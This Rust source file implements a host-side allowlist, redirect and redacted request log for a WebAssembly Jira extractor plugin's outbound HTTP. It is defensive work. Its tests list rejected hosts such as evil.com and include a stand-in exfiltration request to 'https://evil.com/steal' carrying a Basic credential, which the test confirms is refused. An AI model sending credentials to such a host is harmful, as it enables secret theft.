//! The guest's outbound HTTP, as the host sees it: which destinations are
//! allowed, where they are redirected for tests or a proxy, and a record of
//! every request with its credential redacted. What is allowed goes out on
//! the instance's connection pool ([`Pool`]).

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use extractor_jira::site::{GATEWAY_HOST, SiteName};
use http::uri::{Authority, Scheme};
use http::{HeaderValue, Uri};
use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};

use crate::pool::{Pool, PoolStats};

/// One request the guest made.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecordedRequest {
    pub method: String,
    /// The URL the guest asked for, e.g. `https://acme.atlassian.net/rest/api/3/myself`.
    pub url: String,
    /// Header names and values; `authorization` is always `<redacted>`.
    pub headers: Vec<(String, String)>,
    /// The status received, or `None` if the request failed or was refused.
    pub status: Option<u16>,
    pub elapsed: Duration,
}

impl RecordedRequest {
    /// The path and query, e.g. `/rest/api/3/myself`.
    pub fn path_and_query(&self) -> &str {
        let rest = self
            .url
            .split_once("://")
            .map_or(self.url.as_str(), |(_, r)| r);
        rest.find('/').map_or("/", |i| &rest[i..])
    }

    pub fn host(&self) -> &str {
        let rest = self
            .url
            .split_once("://")
            .map_or(self.url.as_str(), |(_, r)| r);
        rest.split('/').next().unwrap_or("")
    }
}

/// A base URL that both Atlassian hosts are redirected to, keeping the path
/// and query (for the fake Jira in tests, or for a proxy).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Upstream {
    scheme: Scheme,
    authority: Authority,
    prefix: String,
}

impl Upstream {
    pub fn parse(base: &str) -> anyhow::Result<Self> {
        let uri: Uri = base
            .parse()
            .map_err(|e| anyhow::anyhow!("--upstream {base:?} is not a URL: {e}"))?;
        let scheme = uri
            .scheme()
            .cloned()
            .filter(|s| *s == Scheme::HTTP || *s == Scheme::HTTPS)
            .ok_or_else(|| {
                anyhow::anyhow!("--upstream {base:?} must start with http:// or https://")
            })?;
        let authority = uri
            .authority()
            .cloned()
            .ok_or_else(|| anyhow::anyhow!("--upstream {base:?} has no host"))?;
        if uri.query().is_some() {
            anyhow::bail!("--upstream {base:?} may not have a query");
        }
        Ok(Self {
            scheme,
            authority,
            prefix: uri.path().trim_end_matches('/').to_owned(),
        })
    }

    fn rewrite(&self, uri: &Uri) -> Result<Uri, HttpError> {
        let path_and_query = uri.path_and_query().map_or("/", |p| p.as_str());
        Uri::builder()
            .scheme(self.scheme.clone())
            .authority(self.authority.clone())
            .path_and_query(format!("{}{path_and_query}", self.prefix))
            .build()
            .map_err(|_| HttpError::HttpRequestUriInvalid)
    }
}

/// The hooks installed in every store: allowlist, redirect, record, send.
#[derive(Clone)]
pub struct Outbound {
    upstream: Option<Upstream>,
    pool: Pool,
    /// The one site host the guest may call, from the config it was given.
    site: Arc<Mutex<Option<String>>>,
    log: Arc<Mutex<Vec<RecordedRequest>>>,
}

impl Outbound {
    pub fn new(upstream: Option<Upstream>, pool: Pool) -> Self {
        Self {
            upstream,
            pool,
            site: Arc::default(),
            log: Arc::default(),
        }
    }

    /// Allows the site named in a vendor config (`appConfig.siteName` or
    /// `orgName`), and no other. A config the host cannot read allows none:
    /// the plugin then refuses the config itself before sending anything.
    pub fn allow_site_of(&self, config_json: &str) {
        *self.site.lock().expect("site poisoned") = site_host(config_json);
    }

    /// What the connection pool did so far.
    pub fn connections(&self) -> PoolStats {
        self.pool.stats()
    }

    /// Every request so far, in the order they were sent.
    pub fn requests(&self) -> Vec<RecordedRequest> {
        self.log.lock().expect("request log poisoned").clone()
    }
}

/// The site host a vendor config names (`appConfig.siteName`, or its alias
/// `orgName`), read by the plugin's own rules: `acme`, `acme.atlassian.net`,
/// `https://acme.atlassian.net/`.
pub fn site_host(config_json: &str) -> Option<String> {
    let config: serde_json::Value = serde_json::from_str(config_json).ok()?;
    let app = config.get("appConfig")?;
    let (field, raw) = [
        ("siteName", "appConfig.siteName"),
        ("orgName", "appConfig.orgName"),
    ]
    .into_iter()
    .find_map(|(key, field)| Some((field, app.get(key)?)))?;
    SiteName::parse(raw.as_str()?, field)
        .ok()
        .map(|site| site.host())
}

/// Whether the guest may send a request to `uri`: https to the configured
/// site or to the gateway, nothing else.
pub fn allowed(uri: &Uri, site: Option<&str>) -> Result<(), String> {
    if uri.scheme() != Some(&Scheme::HTTPS) {
        return Err(format!("{uri}: only https is allowed"));
    }
    let authority = uri.authority().ok_or_else(|| format!("{uri}: no host"))?;
    if authority.port().is_some() || authority.as_str().contains('@') {
        return Err(format!("{uri}: ports and user information are not allowed"));
    }
    let host = authority.host().to_ascii_lowercase();
    if host == GATEWAY_HOST || Some(host.as_str()) == site {
        Ok(())
    } else {
        Err(format!(
            "{host}: not the configured site ({}) or {GATEWAY_HOST}",
            site.unwrap_or("none configured")
        ))
    }
}

impl WasiHttpHooks for Outbound {
    fn send_request(
        &mut self,
        mut request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), HttpError>> + Send>,
    ) -> Box<
        dyn Future<
                Output = wasmtime_wasi_http::Result<(
                    http::Response<WasiBody>,
                    Box<dyn Future<Output = Result<(), HttpError>> + Send>,
                )>,
            > + Send,
    > {
        drop(fut);
        let started = Instant::now();
        let original = request.uri().clone();
        let headers = request
            .headers()
            .iter()
            .map(|(k, v)| {
                let value = if k == http::header::AUTHORIZATION {
                    "<redacted>".to_owned()
                } else {
                    String::from_utf8_lossy(v.as_bytes()).into_owned()
                };
                (k.as_str().to_owned(), value)
            })
            .collect();
        let index = {
            let mut log = self.log.lock().expect("request log poisoned");
            log.push(RecordedRequest {
                method: request.method().to_string(),
                url: original.to_string(),
                headers,
                status: None,
                elapsed: Duration::ZERO,
            });
            log.len() - 1
        };
        let log = self.log.clone();
        let upstream = self.upstream.clone();
        let site = self.site.lock().expect("site poisoned").clone();
        let pool = self.pool.clone();
        Box::new(async move {
            if let Err(why) = allowed(&original, site.as_deref()) {
                eprintln!("host: refused outbound request: {why}");
                return Err(HttpError::HttpRequestDenied);
            }
            if let Some(upstream) = &upstream {
                let target = upstream.rewrite(&original)?;
                if let Some(host) = original.authority() {
                    // The fake Jira tells the site from the gateway by this header.
                    if let Ok(value) = HeaderValue::from_str(host.as_str()) {
                        request.headers_mut().insert("x-forwarded-host", value);
                    }
                }
                *request.uri_mut() = target;
            }
            let result = pool.send(request, options).await;
            let mut entries = log.lock().expect("request log poisoned");
            if let Some(entry) = entries.get_mut(index) {
                entry.elapsed = started.elapsed();
                entry.status = result.as_ref().ok().map(|r| r.status().as_u16());
            }
            drop(entries);
            // The connection's I/O runs on its own task, and a broken one
            // fails the body; nothing is left to report here.
            Ok((
                result?,
                Box::new(async { Ok(()) }) as Box<dyn Future<Output = _> + Send>,
            ))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allowed_accepts_only_the_site_and_the_gateway() {
        let site = Some("acme.atlassian.net");
        for ok in [
            "https://acme.atlassian.net/rest/api/3/myself",
            "https://ACME.atlassian.net/rest/api/3/myself",
            "https://api.atlassian.com/ex/jira/x/rest/api/3/myself",
        ] {
            assert!(allowed(&ok.parse().unwrap(), site).is_ok(), "{ok}");
        }
        for bad in [
            "http://acme.atlassian.net/",
            "https://other.atlassian.net/",
            "https://evil.com/",
            "https://acme.atlassian.net.evil.com/",
            "https://a.b.atlassian.net/",
            "https://atlassian.net/",
            "https://acme.atlassian.net:8443/",
            "https://127.0.0.1/",
        ] {
            assert!(allowed(&bad.parse().unwrap(), site).is_err(), "{bad}");
        }
        assert!(allowed(&"https://acme.atlassian.net/".parse().unwrap(), None).is_err());
    }

    #[test]
    fn site_host_reads_the_config_like_the_plugin() {
        for (config, want) in [
            (
                r#"{"appConfig": {"siteName": "acme"}}"#,
                Some("acme.atlassian.net"),
            ),
            (
                r#"{"appConfig": {"orgName": "https://Acme.atlassian.net/"}}"#,
                Some("acme.atlassian.net"),
            ),
            (
                r#"{"appConfig": {"siteName": "acme.atlassian.net"}}"#,
                Some("acme.atlassian.net"),
            ),
            (r#"{"appConfig": {"siteName": "evil.com"}}"#, None),
            (r#"{"appConfig": {"siteName": "a@b"}}"#, None),
            ("not json", None),
        ] {
            assert_eq!(site_host(config).as_deref(), want, "{config}");
        }
    }

    #[tokio::test]
    async fn send_request_refuses_other_hosts_before_sending() {
        use http_body_util::{BodyExt as _, Empty};
        let tls = crate::trust::Trust::web().client_config().unwrap();
        let mut outbound = Outbound::new(None, Pool::new(tls));
        outbound.allow_site_of(r#"{"appConfig": {"siteName": "acme"}}"#);
        let request = http::Request::builder()
            .uri("https://evil.com/steal")
            .header(http::header::AUTHORIZATION, "Basic c2VjcmV0")
            .body(Empty::new().map_err(|never| match never {}).boxed_unsync())
            .unwrap();
        let future =
            Box::into_pin(outbound.send_request(request, None, Box::new(async { Ok(()) })));
        assert!(matches!(future.await, Err(HttpError::HttpRequestDenied)));
        let log = outbound.requests();
        assert_eq!(log.len(), 1);
        assert_eq!(log[0].status, None);
        assert!(
            log[0]
                .headers
                .iter()
                .any(|(k, v)| k == "authorization" && v == "<redacted>")
        );
    }

    #[test]
    fn upstream_rewrite_keeps_path_and_query() {
        let up = Upstream::parse("http://127.0.0.1:8080/base/").unwrap();
        let uri: Uri = "https://acme.atlassian.net/rest/api/3/group/member?groupId=a%20b"
            .parse()
            .unwrap();
        assert_eq!(
            up.rewrite(&uri).unwrap().to_string(),
            "http://127.0.0.1:8080/base/rest/api/3/group/member?groupId=a%20b"
        );
        assert!(Upstream::parse("ftp://x").is_err());
        assert!(Upstream::parse("127.0.0.1:80").is_err());
    }
}
